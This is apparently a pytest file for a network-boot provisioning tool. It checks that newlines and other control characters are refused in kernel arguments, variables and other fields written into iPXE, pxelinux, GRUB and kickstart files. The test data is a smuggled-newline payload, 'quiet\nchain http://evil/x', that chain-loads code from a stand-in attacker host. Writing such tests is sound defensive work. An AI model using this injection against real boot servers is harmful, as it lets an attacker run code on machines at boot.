"""Issue 12, item 4: text that reaches a line-based boot file (iPXE, pxelinux, GRUB,
kickstart) must not carry a newline or another control character: one would add a
command of the attacker's choosing (``chain http://evil/x``). Only script bodies (the
profile's pre and post snippets) may span lines."""

from __future__ import annotations

import shutil
import sqlite3
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from corral.config import Settings
from corral.errors import InvalidValue
from corral.inventory import db
from corral.inventory.schema import DistroSpec, GroupSpec, NodeSpec, ProfileSpec, parse
from corral.serve.boot import BootService
from corral.serve.http import create_app
from tests.conftest import DATA, corral

#: its integration tests share nothing of the host: `make test` runs them on every core
pytestmark = pytest.mark.parallel_safe

INJECTED = "quiet\nchain http://evil/x"
CONTROLS = ["\n", "\r", "\0", "\x1b", "\x7f", "\x85"]
DISTRO = {"name": "d", "family": "debian", "os_version": "12", "kernel": "k", "initrd": "i"}

# (model, base data, field to spoil, how to put the bad text in it)
FIELDS: list[tuple[type[Any], dict[str, Any], str, Any]] = [
    (ProfileSpec, {"name": "p"}, "kernel_args", lambda t: ["quiet", t]),
    (ProfileSpec, {"name": "p"}, "packages", lambda t: [t]),
    (ProfileSpec, {"name": "p"}, "timezone", lambda t: t),
    (ProfileSpec, {"name": "p"}, "kickstart_template", lambda t: t),
    (ProfileSpec, {"name": "p"}, "variables", lambda t: {"lang": t}),
    (ProfileSpec, {"name": "p"}, "variables", lambda t: {"keys": ["ssh-ed25519 A", t]}),
    (DistroSpec, DISTRO, "kernel", lambda t: f"http://x/{t}"),
    (DistroSpec, DISTRO, "initrd", lambda t: t),
    (DistroSpec, DISTRO, "install_tree", lambda t: t),
    (DistroSpec, DISTRO, "os_version", lambda t: t),
    (GroupSpec, {"name": "g"}, "variables", lambda t: {"site": t}),
    (NodeSpec, {"name": "n"}, "variables", lambda t: {"power_command": t}),
]


@pytest.mark.parametrize("control", CONTROLS, ids=[f"U+{ord(c):04X}" for c in CONTROLS])
@pytest.mark.parametrize(
    ("model", "data", "field", "make"),
    FIELDS,
    ids=[f"{m.__name__}.{f}-{i}" for i, (m, _, f, _) in enumerate(FIELDS)],
)
def test_control_characters_are_refused_in_every_templated_field(
    model: type[Any], data: dict[str, Any], field: str, make: Any, control: str
) -> None:
    with pytest.raises(InvalidValue) as info:
        parse(model, dict(data, **{field: make(f"a{control}b")}), "entry")
    message = str(info.value)
    assert field in message and "is not allowed" in message
    assert "\n" not in message  # the error itself stays one line


def test_snippets_keep_their_lines_and_tabs() -> None:
    body = "#!/bin/bash\nfor i in 1 2; do\n\techo $i\ndone\n"
    spec = parse(ProfileSpec, {"name": "p", "pre": [body], "post": [body]}, "profile p")
    assert spec.pre == [body] and spec.post == [body]


@pytest.mark.parametrize("control", ["\r", "\0", "\x1b"])
def test_snippets_refuse_other_control_characters(control: str) -> None:
    with pytest.raises(InvalidValue, match=r"post\.0: .* is not allowed"):
        parse(ProfileSpec, {"name": "p", "post": [f"echo a{control}\n"]}, "profile p")


def test_assignment_is_checked_too() -> None:
    spec = ProfileSpec(name="p")
    with pytest.raises(ValueError, match="a newline is not allowed"):
        spec.kernel_args = [INJECTED]


@pytest.fixture
def cluster_home(tmp_path: Path) -> Path:
    home = tmp_path / "home"
    result = corral("apply", "-f", str(DATA / "cluster.yaml"), home=home)
    assert result.returncode == 0, result.stderr
    return home


def _dump(home: Path) -> list[str]:
    with sqlite3.connect(home / "corral.db") as conn:
        return list(conn.iterdump())


@pytest.mark.integration
@pytest.mark.parametrize(
    "argv",
    [
        ["profile", "set", "base", "--kernel-arg", INJECTED],
        ["profile", "set", "base", "--var", "lang=en\nchain http://evil/x"],
        ["node", "set", "c01", "--var", "power_command=ipmitool\rreboot"],
        ["group", "add", "g2", "--var", "site=a\x1bb"],
    ],
    ids=["kernel-arg", "profile-var", "node-var", "group-var"],
)
def test_cli_refuses_control_characters_and_changes_nothing(
    cluster_home: Path, argv: list[str]
) -> None:
    before = _dump(cluster_home)
    result = corral(*argv, home=cluster_home)
    assert result.returncode == 2, result.stderr
    assert result.stderr.startswith("error: ") and "is not allowed" in result.stderr
    assert _dump(cluster_home) == before
    ipxe = corral("render", "c01", "--kind", "ipxe", home=cluster_home).stdout
    assert "evil" not in ipxe


@pytest.fixture
def admin(home: Path, fixture_cluster: None, settings: Settings) -> Iterator[TestClient]:
    service = BootService(settings, db.engine())
    with TestClient(create_app(service, "admin-secret")) as client:
        client.headers["Authorization"] = "Bearer admin-secret"
        yield client


def test_rest_patch_refuses_a_newline_in_kernel_args(admin: TestClient) -> None:
    before = admin.get("/api/v1/profiles/base").json()
    response = admin.patch("/api/v1/profiles/base", json={"kernel_args": [INJECTED]})
    assert response.status_code == 422
    assert "a newline is not allowed" in response.json()["detail"]
    assert admin.get("/api/v1/profiles/base").json() == before
    created = admin.post(
        "/api/v1/profiles", json={"name": "evil", "kernel_args": ["a\nchain http://evil/x"]}
    )
    assert created.status_code == 422


@pytest.mark.integration
def test_rendered_boot_files_of_a_stored_profile_have_no_extra_lines(
    cluster_home: Path, tmp_path: Path
) -> None:
    """With the kernel arguments refused, the files keep the lines their templates have."""
    corral("profile", "set", "base", "--kernel-arg", INJECTED, home=cluster_home)
    for kind in ("ipxe", "pxelinux", "grub"):
        text = corral("render", "c01", "--kind", kind, home=cluster_home).stdout
        assert "chain" not in text, (kind, text)


@pytest.mark.integration
def test_sync_tree_is_clean(cluster_home: Path, tmp_path: Path) -> None:
    shutil.rmtree(tmp_path / "root", ignore_errors=True)
    corral("profile", "set", "base", "--kernel-arg", INJECTED, home=cluster_home)
    assert corral("sync", "--root", str(tmp_path / "root"), home=cluster_home).returncode == 0
    for path in (tmp_path / "root").rglob("*"):
        if path.is_file():
            assert "evil" not in path.read_text(errors="replace"), path


def test_a_snippet_with_windows_line_endings_is_refused_with_the_fix() -> None:
    with pytest.raises(InvalidValue, match="save the snippet with Unix line endings"):
        parse(ProfileSpec, {"name": "p", "pre": ["echo a\r\necho b\r\n"]}, "profile p")
